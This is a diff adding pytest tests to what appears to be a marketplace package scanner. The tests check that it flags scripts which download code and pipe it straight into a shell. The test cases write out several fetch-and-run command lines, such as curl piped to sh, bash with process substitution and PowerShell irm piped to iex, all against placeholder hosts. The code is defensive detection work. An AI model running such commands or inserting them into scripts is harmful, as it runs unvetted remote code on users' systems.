@@ -10,6 +10,7 @@ from marketplace_rules.traits import (
     HEAD_BYTES,
     SCRIPT_SAMPLE_BYTES,
     FileTraits,
+    ShellPipe,
     binary_format,
     sample_size,
     script_stats,
@@ -140,3 +141,59 @@ def test_script_stats_measure_quoted_base64_literals() -> None:
 
 def test_script_stats_ignore_short_base64_like_strings() -> None:
     assert script_stats(b'const hash = "' + b"ab12" * 40 + b'";').base64_literal == 0
+
+
+@pytest.mark.parametrize(
+    ("line", "fetch", "run"),
+    [
+        (b"curl -fsSL https://get.example.com | sh", "curl", "sh"),
+        (b"wget -qO- https://example.com/install.sh | sudo -E bash -", "wget", "bash"),
+        (b"curl -s https://example.com/get.py | python3 -", "curl", "python3"),
+        (b"curl -fsSL https://example.com/x | sh -s -- --yes", "curl", "sh"),
+        (b"curl -s https://example.com/list | grep v2 | bash", "curl", "bash"),
+        (b"curl -fsSL https://example.com/x | env FOO=1 /bin/bash", "curl", "/bin/bash"),
+        (b'sh -c "$(curl -fsSL https://example.com/install.sh)"', "curl", "sh"),
+        (b"bash <(curl -s https://example.com/x)", "curl", "bash"),
+        (b"source <(wget -qO- https://example.com/env)", "wget", "source"),
+        (b"irm https://example.com/install.ps1 | iex", "irm", "iex"),
+        (b"iex ((New-Object Net.WebClient).DownloadString('https://x'))", "DownloadString", "iex"),
+    ],
+)
+def test_a_download_handed_to_a_shell_is_a_shell_pipe(line: bytes, fetch: str, run: str) -> None:
+    found = traits_of("install.sh", 0o644, b"#!/bin/sh\nset -e\n" + line + b"\n").shell_pipe
+    assert found == ShellPipe(line=3, fetch=fetch, run=run)
+
+
+@pytest.mark.parametrize(
+    "line",
+    [
+        b"curl -fsSL https://example.com/x.tgz | tar xz",
+        b"curl -s https://example.com/api | jq .",
+        b"curl -s https://example.com/x | shasum -a 256",
+        b"curl -o x.sh https://example.com/x || sh fallback.sh",
+        b"curl -o x.sh https://example.com/x; sh x.sh",
+        b"echo hello | sh",
+        b"# see the README",
+    ],
+)
+def test_other_pipes_and_downloads_are_not_shell_pipes(line: bytes) -> None:
+    assert traits_of("install.sh", 0o755, b"#!/bin/sh\n" + line + b"\n").shell_pipe is None
+
+
+def test_only_scripts_a_shell_runs_are_looked_at() -> None:
+    pipe = b"curl -fsSL https://get.example.com | sh\n"
+    assert traits_of("README.md", 0o644, pipe).shell_pipe is None
+    assert traits_of("docs/install.txt", 0o644, pipe).shell_pipe is None
+    assert traits_of("index.js", 0o644, pipe).shell_pipe is None
+    assert traits_of("bin/setup", 0o755, pipe).shell_pipe is not None  # executable
+    assert traits_of("bin/setup", 0o644, b"#!/bin/bash\n" + pipe).shell_pipe is not None
+    assert traits_of("setup.ps1", 0o644, b"irm https://x | iex\n").shell_pipe is not None
+
+
+@pytest.mark.parametrize("name", ["install.sh", "run.BASH", "setup.ps1", "build.cmd"])
+def test_shell_scripts_are_sampled_as_far_as_javascript(name: str) -> None:
+    assert sample_size(name) == SCRIPT_SAMPLE_BYTES
+    deep = b"#!/bin/sh\n" + b"# comment\n" * 5000 + b"curl -fsSL https://x | sh\n"
+    assert len(deep) > HEAD_BYTES
+    found = traits_of(name, 0o644, deep).shell_pipe
+    assert found is not None and found.line == 5002
